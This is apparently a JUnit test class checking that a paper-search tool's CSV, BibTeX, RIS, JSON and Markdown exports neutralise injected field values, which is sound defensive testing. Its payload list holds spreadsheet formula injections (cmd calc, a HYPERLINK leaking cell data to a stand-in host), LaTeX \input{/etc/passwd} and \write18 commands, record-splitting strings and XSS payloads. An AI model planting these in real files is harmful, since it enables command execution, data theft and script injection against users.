package org.mlsyssearch.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.BulletList;
import org.commonmark.node.Document;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.jbibtex.BibTeXDatabase;
import org.jbibtex.BibTeXParser;
import org.jbibtex.CharacterFilterReader;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.mlsyssearch.model.Kind;
import org.mlsyssearch.model.Link.Rel;
import org.mlsyssearch.model.Paper;
import org.mlsyssearch.model.TopicPath;
import org.mlsyssearch.model.Venue;
import org.mlsyssearch.search.Papers;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Texts made to do something in the program that opens an export stay texts: one record for each
 * paper, no formula, no entry, field, tag or markup besides.
 */
class InjectionTest {

  private static final List<String> TEXTS =
      List.of(
          "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "  =1+1",
          "\u00A0=1+1",
          "\u200B=1+1",
          "\uFF1D1+1",
          "\uFF0B1",
          "\r\n=1+1",
          "a\",\"=1+1",
          "a\r\n=1+1,b",
          "a;=1+1",
          "a\t=1+1",
          "x}, url = {http://a.example/} }\n@misc{evil, title = {Evil}",
          "x\"\n}\n@string{x = \"y\"}\n@preamble{\"\\input{/etc/passwd}\"}",
          "\\input{/etc/passwd} \\write18{id} \\def\\x{}",
          "@comment{@misc{evil,}}",
          "\\",
          "{",
          "}",
          "%",
          "x\r\nER  - \r\nTY  - JOUR\r\nTI  - Evil",
          "x\u2028ER  - \u2028TY  - JOUR",
          "x\u0085ER  - \u0085TY  - JOUR",
          "x\n\n- [evil](javascript:alert(1))",
          "<img src=x onerror=alert(1)>",
          "![a](http://a.example/)",
          "[a](javascript:alert(1))",
          "<javascript:alert(1)>",
          "x\n\n<script>alert(1)</script>",
          "\"},{\"id\":\"evil",
          "x\",\n{\"id\":\"evil\"}");

  /** Signs that begin a formula; blanks before them count for some programs and not for others. */
  private static final String FORMULA = "=+-@\uFF1D\uFF0B\uFF0D\uFF20";

  private static final Set<String> LATEX =
      Set.of(
          "textbackslash",
          "textasciitilde",
          "textasciicircum",
          "textless",
          "textgreater",
          "textbraceleft",
          "textbraceright");

  static final List<Paper> papers = TEXTS.stream().map(InjectionTest::paper).toList();

  /** A paper with a text wherever a list may state one. */
  private static Paper paper(String text) {
    // A label without a letter or digit is refused.
    String label = text + " a";
    return Papers.paper("paper-" + Integer.toHexString(text.hashCode()), label)
        .system(label)
        .alsoKnownAs(label)
        .authors(label, "Given " + label)
        .familyNames(label)
        .at(new Venue("v", label, label, Kind.CONFERENCE), 2020)
        .award(label)
        .topic(TopicPath.of(label, label))
        .link(Rel.PAPER, "https://a.example/@misc%7B,='$(x)")
        .link(Rel.CODE, "https://a.example/=cmd")
        .doi("10.1145/" + text.replaceAll("[^\\w=+@;.-]", ""))
        .summary(label)
        .source(label, label + ".md", 7)
        .build();
  }

  private static String written(Format format, Paper paper) {
    return ExportPapers.written(format, List.of(paper));
  }

  @ParameterizedTest
  @FieldSource("papers")
  void noCellOfCsvIsAFormulaOrRunsIntoTheNext(Paper paper) {
    List<List<String>> rows = rows(written(Format.CSV, paper).substring(1));
    assertEquals(2, rows.size(), rows.toString());
    assertEquals(rows.getFirst().size(), rows.getLast().size(), rows.toString());
    for (String cell : rows.getLast()) {
      String seen = cell.replaceFirst("^[\\s\\p{C}\\p{Z}]+", "");
      assertTrue(seen.isEmpty() || FORMULA.indexOf(seen.charAt(0)) < 0, "'" + cell + "'");
    }
  }

  /** The cells of CSV as in RFC 4180; one that is not quoted holds no sign of another dialect. */
  private static List<List<String>> rows(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    int at = 0;
    while (at < csv.length()) {
      StringBuilder cell = new StringBuilder();
      if (csv.charAt(at) == '"') {
        for (at++; csv.charAt(at) != '"' || csv.startsWith("\"\"", at); at++) {
          at += csv.charAt(at) == '"' ? 1 : 0;
          cell.append(csv.charAt(at));
        }
        at++;
      } else {
        for (; ",\r".indexOf(csv.charAt(at)) < 0; at++) {
          assertTrue("\"\n\t;".indexOf(csv.charAt(at)) < 0, "quoted: " + csv.substring(at));
          cell.append(csv.charAt(at));
        }
      }
      row.add(cell.toString());
      if (csv.startsWith("\r\n", at)) {
        rows.add(row);
        row = new ArrayList<>();
        at += 2;
      } else {
        assertEquals(',', csv.charAt(at), csv.substring(at));
        at++;
      }
    }
    return rows;
  }

  @ParameterizedTest
  @FieldSource("papers")
  void bibtexHasOneEntryAndNoCommandButThoseForSigns(Paper paper) throws Exception {
    String bibtex = written(Format.BIBTEX, paper);
    BibTeXDatabase read =
        new BibTeXParser().parse(new CharacterFilterReader(new StringReader(bibtex)));
    assertEquals(1, read.getObjects().size(), bibtex);
    assertEquals(
        List.of(paper.id().value()),
        read.getEntries().keySet().stream().map(Object::toString).toList());
    // BibTeX begins an entry at any at sign outside of one.
    int depth = 0;
    int entries = 0;
    for (char c : bibtex.toCharArray()) {
      depth += c == '{' ? 1 : c == '}' ? -1 : 0;
      entries += c == '@' && depth == 0 ? 1 : 0;
      assertTrue(depth >= 0, bibtex);
    }
    assertEquals(0, depth, bibtex);
    assertEquals(1, entries, bibtex);
    Pattern.compile("\\\\([A-Za-z]+|.)")
        .matcher(bibtex)
        .results()
        .map(command -> command.group(1))
        .forEach(command ->
            assertTrue(
                LATEX.contains(command) || "%&_#${}".contains(command), command + " in " + bibtex));
  }

  @ParameterizedTest
  @FieldSource("papers")
  void risHasOneRecordAndEachLineATag(Paper paper) {
    String ris = written(Format.RIS, paper);
    List<String> lines = ris.strip().lines().toList();
    assertTrue(lines.getFirst().startsWith("TY  - "), ris);
    assertEquals("ER  -", lines.getLast(), ris);
    for (String line : lines.subList(1, lines.size() - 1)) {
      assertTrue(line.matches("(?!TY|ER)[A-Z][A-Z0-9]  - \\P{Cc}*"), line);
      assertTrue(line.indexOf('\u2028') < 0 && line.indexOf('\u2029') < 0, line);
    }
  }

  @ParameterizedTest
  @FieldSource("papers")
  void jsonIsOneObjectInOneLine(Paper paper) {
    JsonNode items = JsonMapper.shared().readTree(written(Format.CSL_JSON, paper));
    assertEquals(1, items.size());
    assertEquals(paper.id().value(), items.get(0).get("id").asString());
    String line = written(Format.NDJSON, paper);
    assertEquals(line.length() - 1, line.indexOf('\n'));
    assertEquals(paper.id().value(), JsonMapper.shared().readTree(line).get("id").asString());
  }

  @ParameterizedTest
  @FieldSource("papers")
  void markdownHasOneEntryNoHtmlAndLinksOfTheWebAlone(Paper paper) {
    String markdown = written(Format.MARKDOWN, paper);
    List<String> others = new ArrayList<>();
    int[] lists = {0};
    Parser.builder()
        .build()
        .parse(markdown)
        .accept(
            new AbstractVisitor() {
              @Override
              public void visit(BulletList list) {
                lists[0] += list.getParent() instanceof Document ? 1 : 0;
                assertTrue(
                    !(list.getParent() instanceof Document)
                        || list.getFirstChild() == list.getLastChild(),
                    markdown);
                visitChildren(list);
              }

              @Override
              public void visit(Link link) {
                if (!link.getDestination().matches("https?://.*")) {
                  others.add(link.getDestination());
                }
                visitChildren(link);
              }

              @Override
              public void visit(Image image) {
                others.add(image.getDestination());
              }

              @Override
              public void visit(HtmlInline html) {
                others.add(html.getLiteral());
              }

              @Override
              public void visit(HtmlBlock html) {
                others.add(html.getLiteral());
              }
            });
    assertEquals(List.of(), others, markdown);
    assertEquals(1, lists[0], markdown);
  }
}
